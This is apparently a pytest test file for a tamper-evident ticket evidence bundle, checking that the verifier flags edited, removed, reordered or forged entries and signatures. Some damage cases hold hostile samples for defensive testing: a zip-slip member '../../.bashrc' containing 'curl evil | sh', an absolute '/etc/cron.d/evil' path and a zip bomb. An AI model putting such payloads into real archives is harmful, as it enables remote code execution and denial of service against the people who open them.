import hashlib
import io
import json
import os
import tracemalloc
import warnings
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from layan.logbook.bundle import BundleReport, Limits, bundle_verify, bundle_write
from layan.logbook.chain import GENESIS, Record, content_digest, entry_hash, utc_timestamp
from layan.logbook.merkle import ChainHead, InclusionProof, inclusion_proof, merkle_root
from layan.logbook.signing import (
    checkpoint_sign,
    key_fingerprint,
    key_id,
    public_key_pem,
    public_key_raw,
)
from layan.logbook.standalone import verify as standalone
from layan.logbook.tests.test_chain import (
    CHAIN,
    NOW,
    Fixture,
    _generated_bodies,
    _traced,
    build_chain,
    first_with,
)

KEY = Ed25519PrivateKey.from_private_bytes(hashlib.sha256(b"layan test key").digest())
ATTACKER = Ed25519PrivateKey.from_private_bytes(hashlib.sha256(b"someone else").digest())
FINGERPRINT = key_fingerprint(public_key_raw(KEY))
CREATED = datetime(2026, 11, 20, 8, 30, tzinfo=UTC)
TRANSCRIPT = "<!doctype html><h1>Tiket #1042</h1><p>Selamat pagi, pesanan saya belum sampai.</p>"

Problems = list[tuple[str, int | None]]


def make_bundle(
    fixture: Fixture = CHAIN,
    *,
    signed_seq: int = 300,
    signed_by: Fixture | None = None,
    key: Ed25519PrivateKey = KEY,
    records: list[Record] | None = None,
) -> bytes:
    """Write the bundle of ticket 1042, signed in a checkpoint beside two other tickets.

    `signed_by` is the chain the checkpoint saw, when it differs from the one exported.
    """
    seen = (signed_by or fixture).records[signed_seq - 1]
    heads = [
        ChainHead("1040", 12, hashlib.sha256(b"1040").hexdigest()),
        ChainHead("1041", 3, hashlib.sha256(b"1041").hexdigest()),
        ChainHead("1042", signed_seq, seen.hash),
        ChainHead("1043", 41, hashlib.sha256(b"1043").hexdigest()),
    ]
    tree, proof = inclusion_proof(heads, "1042")
    checkpoint = checkpoint_sign(key=key, tree=tree, created_at=CREATED - timedelta(hours=1))
    target = io.BytesIO()
    bundle_write(
        target,
        ticket_ref="1042",
        entries=records if records is not None else fixture.records,
        blobs=fixture.blobs.get,
        checkpoint=checkpoint.statement,
        signature=checkpoint.signature,
        inclusion_proof=proof,
        public_key_pem=public_key_pem(key),
        transcript_html=TRANSCRIPT,
        created_at=CREATED,
    )
    return target.getvalue()


@cache
def clean_bundle() -> bytes:
    return make_bundle()


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def rezip(
    data: bytes,
    *,
    drop: tuple[str, ...] = (),
    replace: dict[str, bytes] | None = None,
    add: list[tuple[str, bytes]] | None = None,
    manifest: bool = True,
) -> bytes:
    """Rebuild a bundle with members dropped, replaced or added.

    With `manifest`, the manifest is rewritten to match, as someone covering their tracks would.
    """
    files = {name: body for name, body in members(data).items() if name not in drop}
    files.update(replace or {})
    if manifest:
        listing = json.loads(files["manifest.json"])
        listing["files"] = [
            {"path": name, "sha256": hashlib.sha256(body).hexdigest(), "size": len(body)}
            for name, body in sorted(files.items())
            if name != "manifest.json"
        ]
        files["manifest.json"] = json.dumps(listing).encode()
    target = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")
        for name, body in [*files.items(), *(add or [])]:
            archive.writestr(name, body)
    return target.getvalue()


def lines_of(data: bytes) -> list[dict[str, Any]]:
    return [json.loads(line) for line in members(data)["entries.jsonl"].splitlines()]


def with_lines(
    data: bytes, edit: Callable[[list[dict[str, Any]]], list[dict[str, Any]]], **options: Any
) -> bytes:
    """Rebuild a bundle with its entry lines edited."""
    lines = edit(lines_of(data))
    text = b"".join(json.dumps(line, ensure_ascii=False).encode() + b"\n" for line in lines)
    return rezip(data, replace={"entries.jsonl": text}, **options)


def _set(index: int, path: tuple[str, ...], value: Any) -> Callable[[list[dict[str, Any]]], Any]:
    def edit(lines: list[dict[str, Any]]) -> list[dict[str, Any]]:
        target = lines[index]
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value
        return lines

    return edit


def _rehashed_line(line: dict[str, Any], **changes: Any) -> dict[str, Any]:
    body = {**line["body"], **changes}
    return {**line, "body": body, "hash": entry_hash(body)}


ATTACHED = first_with(CHAIN, lambda body: bool(body["attachments"]))
ATTACHMENT = CHAIN.records[ATTACHED].body["attachments"][0]["sha256"]
RAW_AND_ATTACHED = first_with(
    CHAIN, lambda body: bool(body["attachments"]) and bool(body["raw_sha256"])
)


def _redacted() -> bytes:
    body = CHAIN.records[RAW_AND_ATTACHED].body
    gone = (
        f"raw/{body['raw_sha256']}",
        *(f"attachments/{a['sha256']}" for a in body["attachments"]),
    )
    erased = {"at": "2026-11-02T09:00:00.000000Z", "by": "user:2", "reason": "permintaan UU PDP"}
    data = with_lines(
        clean_bundle(),
        lambda lines: [
            {**line, "content": None, "salt": None, "redacted": erased}
            if line["body"]["seq"] == RAW_AND_ATTACHED + 1
            else line
            for line in lines
        ],
    )
    return rezip(data, drop=gone)


def _cut_last_line() -> bytes:
    text = members(clean_bundle())["entries.jsonl"]
    last = text.rstrip(b"\n").rfind(b"\n") + 1
    return rezip(clean_bundle(), replace={"entries.jsonl": text[: last + 150]}, manifest=False)


def _without(data: bytes, keep: Callable[[dict[str, Any]], bool], **options: Any) -> bytes:
    """Remove the entry lines `keep` refuses, and the files only they referenced."""
    lines = lines_of(data)

    def names(line: dict[str, Any]) -> set[str]:
        body = line["body"]
        raw = {f"raw/{body['raw_sha256']}"} if body["raw_sha256"] else set()
        return raw | {f"attachments/{item['sha256']}" for item in body["attachments"]}

    kept = [line for line in lines if keep(line)]
    still = set().union(*(names(line) for line in kept))
    gone = set().union(*(names(line) for line in lines)) - still
    return with_lines(rezip(data, drop=tuple(gone)), lambda _: kept, **options)


def _tail_removed() -> bytes:
    data = _without(clean_bundle(), lambda line: line["body"]["seq"] <= 290)
    heads = {"ticket": "1042", "seq": 290, "head": CHAIN.records[289].hash}
    return rezip(data, replace={"heads.json": json.dumps(heads).encode()})


def _rewritten_after_checkpoint() -> bytes:
    rewritten = build_chain(
        300, edit=lambda body: body.update(data={"x": 1}) if body["seq"] == 200 else None
    )
    return make_bundle(rewritten, signed_by=CHAIN)


def _zip_bomb() -> bytes:
    zeros = bytes(24 * 1024 * 1024)
    return rezip(clean_bundle(), add=[(f"attachments/{hashlib.sha256(zeros).hexdigest()}", zeros)])


def _flipped_signature() -> bytes:
    signature = bytearray(bytes.fromhex(members(clean_bundle())["checkpoint.sig"].decode()))
    signature[10] ^= 0x20
    return rezip(clean_bundle(), replace={"checkpoint.sig": signature.hex().encode()})


def _root_changed() -> bytes:
    statement = json.loads(members(clean_bundle())["checkpoint.json"])
    statement["root"] = "ab" * 32
    return rezip(clean_bundle(), replace={"checkpoint.json": json.dumps(statement).encode()})


SWAPPED = b"%PDF-1.7\n% faktur yang sudah diubah\n"

# (name, bundle factory, expected problems without B07, verification limits)
CASES: list[tuple[str, Callable[[], bytes], Problems, Limits | None]] = [
    ("untouched", clean_bundle, [], None),
    (
        "E01 entry edited",
        lambda: with_lines(clean_bundle(), _set(119, ("body", "kind"), "note")),
        [("E01", 120)],
        None,
    ),
    (
        "E02 entry removed",
        lambda: _without(clean_bundle(), lambda line: line["body"]["seq"] != 150),
        [("E02", 150)],
        None,
    ),
    (
        "E03 entry inserted",
        lambda: with_lines(
            clean_bundle(),
            lambda lines: [*lines[:200], _rehashed_line(lines[200], prev="ab" * 32), *lines[200:]],
        ),
        [("E03", 201)],
        None,
    ),
    (
        "E04 lines swapped",
        lambda: with_lines(
            clean_bundle(), lambda lines: [*lines[:39], lines[40], lines[39], *lines[41:]]
        ),
        [("E04", 40)],
        None,
    ),
    (
        "E12 forked",
        lambda: with_lines(
            clean_bundle(),
            lambda lines: [*lines[:250], _rehashed_line(lines[249], kind="note"), *lines[250:]],
        ),
        [("E12", 250)],
        None,
    ),
    ("E05 tail removed", _tail_removed, [("E05", 291)], None),
    ("E06 rewritten after the checkpoint", _rewritten_after_checkpoint, [("E06", 300)], None),
    (
        "E09 content edited",
        lambda: with_lines(clean_bundle(), _set(76, ("content", "text"), "Tidak ada keluhan.")),
        [("E09", 77)],
        None,
    ),
    (
        "E09 attachment swapped",
        lambda: rezip(clean_bundle(), replace={f"attachments/{ATTACHMENT}": SWAPPED}),
        [("E09", ATTACHED + 1)],
        None,
    ),
    (
        "E09 attachment swapped, manifest left",
        lambda: rezip(
            clean_bundle(), replace={f"attachments/{ATTACHMENT}": SWAPPED}, manifest=False
        ),
        [("B03", None), ("E09", ATTACHED + 1)],
        None,
    ),
    (
        "E09 attachment deleted",
        lambda: rezip(clean_bundle(), drop=(f"attachments/{ATTACHMENT}",)),
        [("E09", ATTACHED + 1)],
        None,
    ),
    (
        "B01 attachment deleted, manifest left",
        lambda: rezip(clean_bundle(), drop=(f"attachments/{ATTACHMENT}",), manifest=False),
        [("B01", None), ("E09", ATTACHED + 1)],
        None,
    ),
    ("E10 forged signature", _flipped_signature, [("E10", None)], None),
    ("E10 signed root changed", _root_changed, [("E06", 300), ("E10", None)], None),
    ("E14 content erased", _redacted, [], None),
    (
        "B06 last line cut",
        _cut_last_line,
        [("B03", None), ("B06", None), ("E05", 300), ("E05", 300)],
        None,
    ),
    (
        "B01 file missing",
        lambda: rezip(clean_bundle(), drop=("transcript.html",), manifest=False),
        [("B01", None)],
        None,
    ),
    (
        "B01 required file missing everywhere",
        lambda: rezip(clean_bundle(), drop=("verify.py",)),
        [("B01", None)],
        None,
    ),
    (
        "B02 extra file",
        lambda: rezip(clean_bundle(), replace={"notes.txt": b"Jangan lupa hapus entri 120."}),
        [("B02", None)],
        None,
    ),
    (
        "B02 unlisted, unreferenced blob",
        lambda: rezip(clean_bundle(), add=[(f"raw/{'cd' * 32}", b"From: x\r\n\r\nhi")]),
        [("B02", None), ("B02", None)],
        None,
    ),
    (
        "B04 zip-slip",
        lambda: rezip(clean_bundle(), add=[("../../.bashrc", b"curl evil | sh")]),
        [("B04", None)],
        None,
    ),
    (
        "B04 absolute path",
        lambda: rezip(clean_bundle(), add=[("/etc/cron.d/evil", b"* * * * * root true")]),
        [("B04", None)],
        None,
    ),
    (
        "B04 duplicate member",
        lambda: rezip(clean_bundle(), add=[("heads.json", b'{"seq": 1}')]),
        [("B01", None), ("B04", None)],
        None,
    ),
    ("B05 zip bomb", _zip_bomb, [("B05", None)], None),
    ("B05 over the total limit", clean_bundle, [("B05", None)], Limits(total_bytes=100_000)),
    (
        "B06 manifest not JSON",
        lambda: rezip(clean_bundle(), replace={"manifest.json": b"{"}, manifest=False),
        [("B06", None)],
        None,
    ),
    ("B08 entries after the checkpoint", lambda: make_bundle(signed_seq=280), [("B08", 281)], None),
]


def problems_of(report: BundleReport) -> Problems:
    found = [(p.code.value, p.seq) for p in report.problems if p.code.value not in ("B07", "E14")]
    return sorted(found, key=lambda item: (item[0], item[1] or 0))


@pytest.mark.parametrize(
    ("factory", "expected", "limits"),
    [pytest.param(factory, expected, limits, id=name) for name, factory, expected, limits in CASES],
)
def test_bundle_damage_is_reported(
    factory: Callable[[], bytes], expected: Problems, limits: Limits | None
) -> None:
    """Each kind of damage to a bundle yields exactly its problems."""
    report = bundle_verify(io.BytesIO(factory()), now=NOW, limits=limits, keep=1000)
    assert problems_of(report) == expected
    assert report.usable
    assert report.ok == all(code == "B08" for code, _ in expected)


def test_untouched_bundle_describes_itself() -> None:
    """A clean bundle reports its ticket, entries, head, checkpoint and key."""
    report = bundle_verify(io.BytesIO(clean_bundle()), now=NOW)
    assert report.ok
    assert (report.ticket, report.entries, report.head_seq) == ("1042", 300, 300)
    assert report.head == CHAIN.records[-1].hash
    assert report.signed_seq == 300
    assert report.checkpoint is not None
    assert report.checkpoint["tickets"] == 4
    assert (report.key_id, report.fingerprint) == (FINGERPRINT[:16], FINGERPRINT)


def test_erased_entry_is_reported_as_erased() -> None:
    """An erased entry keeps the bundle intact and is noted as E14 on its entry."""
    report = bundle_verify(io.BytesIO(_redacted()), now=NOW)
    assert report.ok
    erased = [(p.code.value, p.seq) for p in report.problems if p.code.value == "E14"]
    assert erased == [("E14", RAW_AND_ATTACHED + 1)]


@pytest.mark.parametrize(
    ("data", "trusted", "codes", "key_trusted"),
    [
        pytest.param(clean_bundle, (), ["B07"], False, id="no fingerprint: says so"),
        pytest.param(clean_bundle, (FINGERPRINT,), [], True, id="full fingerprint"),
        pytest.param(clean_bundle, (FINGERPRINT[:16].upper(),), [], True, id="key id"),
        pytest.param(
            clean_bundle,
            (":".join(FINGERPRINT[i : i + 2] for i in range(0, 64, 2)),),
            [],
            True,
            id="fingerprint with colons",
        ),
        pytest.param(clean_bundle, (FINGERPRINT[:8],), ["E10"], False, id="prefix too short"),
        pytest.param(
            lambda: make_bundle(key=ATTACKER), (), ["B07"], False, id="other key, not pinned"
        ),
        pytest.param(
            lambda: make_bundle(key=ATTACKER), (FINGERPRINT,), ["E10"], False, id="other key"
        ),
    ],
)
def test_trusted_fingerprints(
    data: Callable[[], bytes], trusted: tuple[str, ...], codes: list[str], key_trusted: bool
) -> None:
    """Only a fingerprint from elsewhere proves who signed; without one the report says so."""
    report = bundle_verify(io.BytesIO(data()), now=NOW, trusted=trusted)
    assert [problem.code.value for problem in report.problems] == codes
    assert report.key_trusted is key_trusted


def test_file_that_is_not_a_zip_is_unusable() -> None:
    """Bytes that are no zip archive give an unusable report, not an exception."""
    report = bundle_verify(io.BytesIO(b"%PDF-1.7 not a bundle"), now=NOW)
    assert not report.usable
    assert not report.ok
    assert [problem.code.value for problem in report.problems] == ["B06"]


def test_bundle_holds_the_documented_files() -> None:
    """The manifest lists every other file with its digest and size; blobs are named by digest."""
    files = members(clean_bundle())
    manifest = json.loads(files.pop("manifest.json"))
    assert (manifest["format"], manifest["version"], manifest["ticket"]) == (
        "layan-evidence-bundle",
        1,
        "1042",
    )
    assert manifest["created_at"] == "2026-11-20T08:30:00.000000Z"
    assert {item["path"]: (item["sha256"], item["size"]) for item in manifest["files"]} == {
        name: (hashlib.sha256(body).hexdigest(), len(body)) for name, body in files.items()
    }
    blobs = [name for name in files if "/" in name]
    assert blobs
    assert all(hashlib.sha256(files[name]).hexdigest() == name.split("/")[1] for name in blobs)
    assert files["transcript.html"] == TRANSCRIPT.encode()
    assert FINGERPRINT in files["README.txt"].decode()
    assert json.loads(files["heads.json"]) == {
        "ticket": "1042",
        "seq": 300,
        "head": CHAIN.records[-1].hash,
    }
    assert len(files["entries.jsonl"].splitlines()) == 300


def test_bundle_is_reproducible() -> None:
    """Writing the same bundle twice gives the same bytes."""
    assert make_bundle() == clean_bundle()


def test_blobs_may_be_streams_and_erased_blobs_are_skipped() -> None:
    """Blob readers may return streams, or None for erased bytes, which are then left out."""
    erased = CHAIN.records[RAW_AND_ATTACHED].body["raw_sha256"]

    def blobs(sha: str) -> io.BytesIO | None:
        return None if sha == erased else io.BytesIO(CHAIN.blobs[sha])

    target = io.BytesIO()
    statement, signature = _clean_checkpoint()
    proof = json.loads(members(clean_bundle())["inclusion.json"])
    bundle_write(
        target,
        ticket_ref="1042",
        entries=CHAIN.records,
        blobs=blobs,
        checkpoint=statement,
        signature=signature,
        inclusion_proof=InclusionProof.from_json(proof),
        public_key_pem=public_key_pem(KEY),
        transcript_html=TRANSCRIPT.encode(),
        created_at=CREATED,
    )
    files = members(target.getvalue())
    assert f"raw/{erased}" not in files
    assert files[f"attachments/{ATTACHMENT}"] == CHAIN.blobs[ATTACHMENT]
    report = bundle_verify(io.BytesIO(target.getvalue()), now=NOW)
    assert [(p.code.value, p.seq) for p in report.problems if p.code.value != "B07"] == [
        ("E09", RAW_AND_ATTACHED + 1)
    ]


def _clean_checkpoint() -> tuple[dict[str, Any], bytes]:
    files = members(clean_bundle())
    return json.loads(files["checkpoint.json"]), bytes.fromhex(files["checkpoint.sig"].decode())


def test_writing_memory_does_not_grow_with_the_entries(tmp_path: Path) -> None:
    """While the last 5,000 of 20,000 entries are written, memory in use stays flat."""
    statement, signature = _clean_checkpoint()
    proof = json.loads(members(clean_bundle())["inclusion.json"])
    records: Iterator[Record] = _traced(_generated_bodies(20_000), untraced=15_000)
    try:
        bundle_write(
            tmp_path / "7.zip",
            ticket_ref="7",
            entries=records,
            blobs=lambda sha: None,
            checkpoint=statement,
            signature=signature,
            inclusion_proof=InclusionProof.from_json(proof),
            public_key_pem=public_key_pem(KEY),
            transcript_html="",
            created_at=CREATED,
        )
        tracing = tracemalloc.is_tracing()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert tracing
    assert peak < 512 * 1024


def test_key_id_in_checkpoint_must_match_the_included_key() -> None:
    """A checkpoint naming another key id than the bundle's key is refused."""
    tree = merkle_root([ChainHead("1042", 1, "aa" * 32)])
    other = checkpoint_sign(key=ATTACKER, tree=tree, created_at=NOW)
    data = rezip(
        clean_bundle(),
        replace={
            "checkpoint.json": json.dumps(other.statement).encode(),
            "checkpoint.sig": other.signature.hex().encode(),
        },
    )
    report = bundle_verify(io.BytesIO(data), now=NOW)
    assert ("E10", None) in [(p.code.value, p.seq) for p in report.problems]
    assert key_id(public_key_raw(ATTACKER)) in " ".join(p.message for p in report.problems)


def _shared_data() -> Path:
    default = Path(__file__).resolve().parents[3] / ".." / "shared" / "data"
    return Path(os.environ.get("LAYAN_SHARED_DATA", default))


@pytest.mark.corpus
def test_real_emails_survive_a_bundle_round_trip(tmp_path: Path) -> None:
    """Every real e-mail of the shared corpus, as raw payloads, bundles and verifies intact."""
    folder = _shared_data() / "mail"
    if not folder.is_dir():
        pytest.skip("shared test data not present")
    payloads = sorted(path for path in folder.rglob("*") if path.is_file())
    blobs: dict[str, bytes] = {}
    records: list[Record] = []
    prev = GENESIS
    for seq, path in enumerate(payloads, 1):
        raw = path.read_bytes()
        sha = hashlib.sha256(raw).hexdigest()
        blobs[sha] = raw
        content = {"subject": path.name, "text": raw[:400].decode("utf-8", "replace"), "html": ""}
        salt = hashlib.sha256(sha.encode()).digest()[:16]
        stamp = utc_timestamp(CREATED - timedelta(minutes=len(payloads) - seq))
        body = {
            "v": 1,
            "ticket": "1042",
            "seq": seq,
            "prev": prev,
            "kind": "message",
            "direction": "in",
            "channel": "email",
            "actor": f"contact:{seq}",
            "occurred_at": stamp,
            "recorded_at": stamp,
            "content_sha256": content_digest(salt, content),
            "raw_sha256": sha,
            "attachments": [],
            "data": {"source": str(path.relative_to(folder))},
        }
        prev = entry_hash(body)
        records.append(Record(hash=prev, body=body, content=content, salt=salt))
    corpus = Fixture(records, blobs)
    path = tmp_path / "corpus.zip"
    path.write_bytes(make_bundle(corpus, signed_seq=len(records)))
    ours = bundle_verify(path, now=NOW, trusted=(FINGERPRINT,))
    theirs = standalone.verify_bundle(path, now=NOW, trusted=(FINGERPRINT,))
    assert (ours.ok, ours.entries, ours.problems) == (True, len(payloads), ())
    assert (theirs["errors"], theirs["problems"]) == (0, [])
    swapped = rezip(path.read_bytes(), replace={f"raw/{records[7].body['raw_sha256']}": b"x"})
    report = bundle_verify(io.BytesIO(swapped), now=NOW, trusted=(FINGERPRINT,))
    assert [(p.code.value, p.seq) for p in report.problems] == [("E09", 8)]
